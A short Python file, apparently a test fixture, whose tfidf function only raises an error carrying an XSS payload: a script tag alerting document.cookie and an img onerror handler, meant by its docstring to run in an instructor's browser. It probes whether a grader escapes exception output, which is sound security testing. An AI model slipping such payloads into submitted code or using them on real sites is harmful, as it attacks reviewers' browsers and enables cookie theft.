"""Raises HTML that would run a script in the instructor's browser."""


def tfidf(counts):
    raise ValueError("</pre><script>alert(document.cookie)</script><img src=x onerror=alert(1)>")
